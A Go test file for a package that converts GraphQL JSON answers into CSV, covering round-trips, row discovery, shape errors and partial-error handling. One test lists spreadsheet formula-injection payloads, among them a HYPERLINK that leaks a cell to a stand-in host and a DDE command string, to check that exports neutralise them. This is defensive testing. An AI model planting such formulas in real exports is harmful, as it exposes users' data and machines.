package csvexport_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/civgraph/civgraph/csvexport"
)

// parseBack reads an export the way a CSV reader does, after checking and
// removing the byte-order mark.
func parseBack(t *testing.T, b []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(b, []byte{0xEF, 0xBB, 0xBF}) {
		t.Fatalf("no UTF-8 byte-order mark: % x", b[:min(len(b), 8)])
	}
	r := csv.NewReader(bytes.NewReader(b[3:]))
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("not valid CSV: %v\n%s", err, b)
	}
	return recs
}

func export(t *testing.T, data, rows string) [][]string {
	t.Helper()
	tab, err := csvexport.Flatten([]byte(data), rows)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := csvexport.Write(&buf, tab); err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(buf.Bytes(), []byte("\r\n")) {
		t.Error("rows are not ended by CRLF as RFC 4180 says")
	}
	return parseBack(t, buf.Bytes())
}

func TestExportRoundTripsValues(t *testing.T) {
	data := `{"serviceSites":{"totalCount":2,"nodes":[
	  {"id":"U2l0ZTox","name":"石家庄市长安区\"幸福\"长者食堂, 一号","capacity":120,"lat":38.0428,"sample":false,
	   "region":{"code":"130102","name":"长安区","parent":{"name":"石家庄市"}},"tags":["助餐","送餐"],
	   "address":"中山东路1号\n二层","note":"a\rb"},
	  {"id":"U2l0ZToy","name":"武汉市 社区食堂","capacity":null,"lat":-30.5,"sample":true,
	   "region":null,"tags":[],"address":null,"note":" 前导空格"}
	]}}`
	got := export(t, data, "")
	want := [][]string{
		{"id", "name", "capacity", "lat", "sample", "region.code", "region.name", "region.parent.name", "tags", "address", "note"},
		{"U2l0ZTox", `石家庄市长安区"幸福"长者食堂, 一号`, "120", "38.0428", "false", "130102", "长安区", "石家庄市", "助餐; 送餐", "中山东路1号\n二层", "a\rb"},
		{"U2l0ZToy", "武汉市 社区食堂", "", "-30.5", "true", "", "", "", "", "", " 前导空格"},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("parsed back (-want +got):\n%s", d)
	}
}

func TestHostileCellsAreNeutralised(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"点击")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
		"\t=1", "\r=1", "＝1+1", "－1", "=",
	}
	var items []string
	for _, h := range hostile {
		q := strings.ReplaceAll(strings.ReplaceAll(strings.ReplaceAll(h, `\`, `\\`), `"`, `\"`), "\t", `\t`)
		items = append(items, fmt.Sprintf(`{"v":"%s","n":-7,"list":["%s"]}`, strings.ReplaceAll(q, "\r", `\r`), strings.ReplaceAll(q, "\r", `\r`)))
	}
	got := export(t, `{"xs":[`+strings.Join(items, ",")+`]}`, "")
	if len(got) != len(hostile)+1 {
		t.Fatalf("%d records for %d rows", len(got), len(hostile))
	}
	for i, h := range hostile {
		row := got[i+1]
		if row[0] != "'"+h || row[2] != "'"+h {
			t.Errorf("cell %q exported as %q and in a list as %q, want a leading apostrophe", h, row[0], row[2])
		}
		if row[1] != "-7" {
			t.Errorf("the number -7 became %q: numbers are no formulas and must stay numbers", row[1])
		}
	}
	// A header comes from the client's aliases: neutralised too.
	if h := export(t, `{"xs":[{"=cmd":"1"}]}`, "")[0][0]; h != "'=cmd" {
		t.Errorf("header cell %q", h)
	}
	for _, safe := range []string{"河北省", "a-b", "1=1", " =1", "e@mail"} {
		if got := csvexport.Neutralize(safe); got != safe {
			t.Errorf("Neutralize(%q) = %q, want unchanged", safe, got)
		}
	}
}

func TestRowsAreFound(t *testing.T) {
	tests := []struct {
		name, data, rows string
		want             [][]string
	}{
		{"a list", `{"provinces":[{"code":"HEBEI"},{"code":"HUBEI"}]}`, "", [][]string{{"code"}, {"HEBEI"}, {"HUBEI"}}},
		{"a connection's edges", `{"meetings":{"pageInfo":{"hasNextPage":false},"edges":[{"cursor":"c1","node":{"title":"会"}}]}}`, "",
			[][]string{{"title"}, {"会"}}},
		{"a named path through a list", `{"a":{"edges":[{"node":{"x":1}},{"node":{"x":2}}]},"b":[]}`, "a.edges.node", [][]string{{"x"}, {"1"}, {"2"}}},
		{"aliases", `{"hb":{"nodes":[{"n":"1"}]},"hu":{"nodes":[{"n":"2"}]}}`, "hu.nodes", [][]string{{"n"}, {"2"}}},
		{"nested lists by path", `{"provinces":[{"meetings":[{"t":"a"}]},{"meetings":[{"t":"b"},{"t":"c"}]},{"meetings":null}]}`, "provinces.meetings",
			[][]string{{"t"}, {"a"}, {"b"}, {"c"}}},
		{"a column only later rows fill", `{"xs":[{"a":1,"r":null},{"a":2,"r":{"name":"区"}}]}`, "", [][]string{{"a", "r.name"}, {"1", ""}, {"2", "区"}}},
		{"no rows", `{"xs":[]}`, "", [][]string{{}}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			tab, err := csvexport.Flatten([]byte(tc.data), tc.rows)
			if err != nil {
				t.Fatal(err)
			}
			got := append([][]string{tab.Header}, tab.Rows...)
			if tab.Header == nil {
				got[0] = []string{}
			}
			if d := cmp.Diff(tc.want, got); d != "" {
				t.Errorf("(-want +got):\n%s", d)
			}
		})
	}
}

func TestNonTablesAreRefused(t *testing.T) {
	many := make([]string, csvexport.MaxColumns+1)
	for i := range many {
		many[i] = fmt.Sprintf(`"f%d":1`, i)
	}
	tests := []struct{ name, data, rows, says string }{
		{"several lists", `{"a":[],"b":[]}`, "", "rows=a"},
		{"a list of objects in a cell", `{"xs":[{"id":"1","tasks":[{"t":"x"}]}]}`, "", "tasks is a list of objects"},
		{"an unknown path", `{"xs":{"nodes":[]}}`, "xs.edges", `has no field "edges"`},
		{"scalars as rows", `{"xs":[1,2]}`, "", "must be objects"},
		{"a scalar, no list", `{"x":"y"}`, "", "no list of objects"},
		{"value and object", `{"xs":[{"a":1},{"a":{"b":2}}]}`, "", "a value in one row and an object in another"},
		{"too many columns", `{"xs":[{` + strings.Join(many, ",") + `}]}`, "", "more than 1024 columns"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := csvexport.Flatten([]byte(tc.data), tc.rows)
			if err == nil || !strings.Contains(err.Error(), tc.says) || !csvexport.IsShapeError(err) {
				t.Fatalf("err = %v, want a shape error saying %q", err, tc.says)
			}
		})
	}
	if _, err := csvexport.Flatten([]byte(strings.Repeat("[", 300)+strings.Repeat("]", 300)), ""); err == nil {
		t.Error("JSON nested 300 deep was accepted")
	}
}

func TestCheckRefusesAnswersWithErrors(t *testing.T) {
	provErr := `{"message":"HUBEI: listSites: down","extensions":{"code":"SOURCE_UNAVAILABLE","province":"HUBEI"}}`
	tests := []struct {
		name, body string
		partial    bool
		failed     []string
		refused    bool
		retry      bool // refused, but partial=allow would export it
	}{
		{"clean", `{"data":{"xs":[]}}`, false, nil, false, false},
		{"a province failed", `{"data":{"xs":[]},"errors":[` + provErr + `]}`, false, nil, true, true},
		{"a province failed, partial allowed", `{"data":{"xs":[]},"errors":[` + provErr + `]}`, true, []string{"HUBEI"}, false, false},
		{"a field failed", `{"data":{"xs":[]},"errors":[{"message":"boom","extensions":{"code":"INTERNAL_SERVER_ERROR"}}]}`, true, nil, true, false},
		{"no data", `{"errors":[{"message":"bad","extensions":{"code":"GRAPHQL_VALIDATION_FAILED"}}]}`, true, nil, true, false},
		{"null data", `{"data":null}`, true, nil, true, false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r, err := csvexport.ParseResponse([]byte(tc.body))
			if err != nil {
				t.Fatal(err)
			}
			failed, err := csvexport.Check(r, tc.partial)
			var re *csvexport.RefusedError
			if got := errors.As(err, &re); got != tc.refused {
				t.Fatalf("refused = %v (%v), want %v", got, err, tc.refused)
			}
			if re != nil && re.Partial != tc.retry {
				t.Errorf("Partial = %v, want %v", re.Partial, tc.retry)
			}
			if d := cmp.Diff(tc.failed, failed); d != "" {
				t.Errorf("failed provinces (-want +got):\n%s", d)
			}
		})
	}
}
